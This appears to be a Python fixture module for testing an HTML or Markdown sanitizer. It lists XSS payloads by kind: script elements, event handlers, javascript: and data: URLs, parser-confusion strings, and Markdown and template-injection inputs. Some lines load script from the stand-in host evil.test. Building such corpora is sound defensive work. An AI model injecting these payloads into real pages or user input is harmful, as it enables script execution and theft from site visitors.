"""Words that would run script in a page that printed them as they are: each calls `hit()`, or would lead there.

Well-known shapes, written down by kind: elements, handlers, addresses, what parsers disagree on, Markdown's own signs.
"""

from __future__ import annotations

ELEMENTS = """
<script>hit()</script>
<SCRIPT>hit()</SCRIPT>
<script >hit()</script >
<script/x>hit()</script>
<script
>hit()</script>
<script src=data:text/javascript,hit()></script>
<script src=//evil.test/x.js></script>
<script type=module>hit()</script>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit();//<</script>
<script>hit()
<script>/*<!--*/hit()</script>
"><script>hit()</script>
'><script>hit()</script>
</title><script>hit()</script>
</style><script>hit()</script>
</textarea><script>hit()</script>
--><script>hit()</script>
]]><script>hit()</script>
<iframe src=javascript:hit()></iframe>
<iframe srcdoc="<script>parent.hit()</script>"></iframe>
<object data=javascript:hit()></object>
<object data="data:text/html,<script>parent.hit()</script>"></object>
<embed src=javascript:hit()>
<meta http-equiv=refresh content="0;url=javascript:hit()">
<base href=javascript:hit()//><a href=#>x</a>
<link rel=import href=data:text/html,<script>hit()</script>>
<svg><script>hit()</script></svg>
<svg><script xlink:href=data:,hit()></script></svg>
<svg><a xlink:href=javascript:hit()><text y=9>x</text></a></svg>
<math><a xlink:href=javascript:hit()>x</a></math>
<svg><animate onbegin=hit() attributeName=x dur=1s></svg>
<svg><set onbegin=hit() attributeName=x></svg>
<form action=javascript:hit()><button>x</button></form>
<button formaction=javascript:hit()>x</button>
<form><input type=image src=x onerror=hit()></form>
<style>@import 'javascript:hit()';</style>
<style>*{background:url(javascript:hit())}</style>
<template><script>hit()</script></template>
<x-element is=script>hit()</x-element>
""".strip().split("\n<")

HANDLERS = """
<img src=x onerror=hit()>
<img src=x onerror="hit()">
<img src=x onerror='hit()'>
<img src=x onerror=&#104;it()>
<img/src=x/onerror=hit()>
<img src=x:x onerror=hit() alt=x>
<img src="x` `<script>hit()</script>"` `>
<IMG SRC=x ONERROR=hit()>
<svg onload=hit()>
<svg/onload=hit()>
<svg><g onload=hit()></g></svg>
<body onload=hit()>
<input autofocus onfocus=hit()>
<select autofocus onfocus=hit()></select>
<textarea autofocus onfocus=hit()></textarea>
<details open ontoggle=hit()><summary>x</summary></details>
<video src=x onerror=hit()></video>
<video><source onerror=hit()></video>
<audio src=x onerror=hit()></audio>
<marquee onstart=hit()>x</marquee>
<p style=animation:x onanimationstart=hit()>x</p>
<b tabindex=0 autofocus onfocus=hit()>x</b>
<a href=# onclick=hit()>x</a>
<a onmouseover=hit()>x</a>
<b onpointerover=hit()>x</b>
<td background=javascript:hit()>x</td>
<p title="x" onclick="hit()">x</p>
<p title='"' onclick=hit() x='">x</p>
<b/onclick=hit()>x</b>
<li onclick=hit()>x</li>
<time datetime="x"onclick=hit()>x</time>
<object onerror=hit() data=x></object>
<style onload=hit()></style>
<link rel=stylesheet href=x onerror=hit()>
<iframe onload=hit()></iframe>
<dialog open onclose=hit()>x</dialog>
<b contenteditable onbeforeinput=hit()>x</b>
<b popover onbeforetoggle=hit()>x</b>
""".strip().split("\n")

ADDRESSES = [
    f'<a href="{address}">x</a>'
    for address in (
        "javascript:hit()",
        "JAVASCRIPT:hit()",
        "JaVaScRiPt:hit()",
        " javascript:hit()",
        "java&#9;script:hit()",
        "java&#10;script:hit()",
        "java&#13;script:hit()",
        "&#1;javascript:hit()",
        "&#x6A;avascript:hit()",
        "&#0000106;avascript:hit()",
        "javascript&colon;hit()",
        "javascript&#58;hit()",
        "java&Tab;script:hit()",
        "javascript:/*//https://*/hit()",
        "javascript://x%0Ahit()",
        "vbscript:hit()",
        "data:text/html,<script>hit()</script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
        "blob:https://evil.test/x",
        "filesystem:https://evil.test/x",
        "view-source:javascript:hit()",
        "feed:javascript:hit()",
        "jar:javascript:hit()",
        "x:javascript:hit()",
        'https://a.test/"onmouseover="hit()',
        "https://a.test/&quot;onmouseover=&quot;hit()",
    )
]

DISAGREEMENTS = """
<svg><style><img src=x onerror=hit()></style></svg>
<math><style><img src=x onerror=hit()></style></math>
<svg></p><style><a id="</style><img src=x onerror=hit()>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>
<noscript><p title="</noscript><img src=x onerror=hit()>">
<template><p title="</template><img src=x onerror=hit()>">
<xmp><p title="</xmp><img src=x onerror=hit()>">
<noembed><p title="</noembed><img src=x onerror=hit()>">
<plaintext><img src=x onerror=hit()>
<title><p title="</title><img src=x onerror=hit()>">
<textarea><p title="</textarea><img src=x onerror=hit()>">
<!--><img src=x onerror=hit()>-->
<!--!><img src=x onerror=hit()>-->
<!-- --!><img src=x onerror=hit()>
<![CDATA[><img src=x onerror=hit()>]]>
<?xml version="1.0"?><img src=x onerror=hit()>
<! x="><img src=x onerror=hit()>">
</ x="><img src=x onerror=hit()>">
<a title="<b>" href='">'><img src=x onerror=hit()>
<p title="&quot;><img src=x onerror=hit()>">x</p>
<code><img src=x onerror=hit()></code>
<table><script>hit()</script></table>
<table><td><svg><desc><td><script>hit()</script>
<select><script>hit()</script></select>
<b <script>hit()</script>
<b x="` + "`" + `"><img src=x onerror=hit()>
&lt;script&gt;hit()&lt;/script&gt;
&amp;lt;img src=x onerror=hit()&amp;gt;
&#60;img src=x onerror=hit()&#62;
\u003cimg src=x onerror=hit()\u003e
＜img src=x onerror=hit()＞
""".strip().split("\n")

MARKDOWN = r"""
[x](javascript:hit())
[x](<javascript:hit()>)
[x](javascript&colon;hit())
[x](java&#9;script:hit())
[x](JavaScript:hit() "title")
[x](data:text/html,<script>hit()</script>)
[x](https://a.test/ "title" onclick="hit()")
[x](https://a.test/" onmouseover="hit())
![x](javascript:hit())
![x](x.png" onerror="hit())
![x" onerror="hit()](x.png)
![x](x.png 'x" onerror="hit()')
[x][a]{nl}{nl}[a]: javascript:hit()
[x][a]{nl}{nl}[a]: https://a.test/ "x" onclick="hit()"
<javascript:hit()>
<x" onmouseover="hit()@a.test>
*x*{: onclick=hit() }
*x*{: onclick="hit()" style="x" }
[x](https://a.test/){: href=javascript:hit() }
![x](x.png){: onerror=hit() src=y }
## x {#x" onclick="hit() }
## x {: onclick=hit() }
x[^"><img src=x onerror=hit()>]{nl}{nl}[^"><img src=x onerror=hit()>]: y
x[^1]{nl}{nl}[^1]: <img src=x onerror=hit()>
*[x]: y" onmouseover="hit(){nl}{nl}x
*[<img src=x onerror=hit()>]: y{nl}{nl}<img src=x onerror=hit()>
~~~ "><img src=x onerror=hit()>{nl}x{nl}~~~
```html{nl}<img src=x onerror=hit()>{nl}```
``<img src=x onerror=hit()>``
    <img src=x onerror=hit()>
| a | b |{nl}|---|---|{nl}| <img src=x onerror=hit()> | y |
x{nl}:   <img src=x onerror=hit()>
> <img src=x onerror=hit()>
\<img src=x onerror=hit()>
<img src=x{nl}onerror=hit()>
<p>{nl}{nl}<img src=x onerror=hit()>{nl}{nl}</p>
{{ hit() }}
{% include "x" %}{{ ''.__class__.__mro__ }}
""".strip().split("\n")

VECTORS = tuple(
    vector.replace("{nl}", "\n")
    for vector in (
        *(each if each.startswith(("<", '"', "'", "-", "]")) else f"<{each}" for each in ELEMENTS),
        *HANDLERS,
        *ADDRESSES,
        *DISAGREEMENTS,
        *MARKDOWN,
    )
)
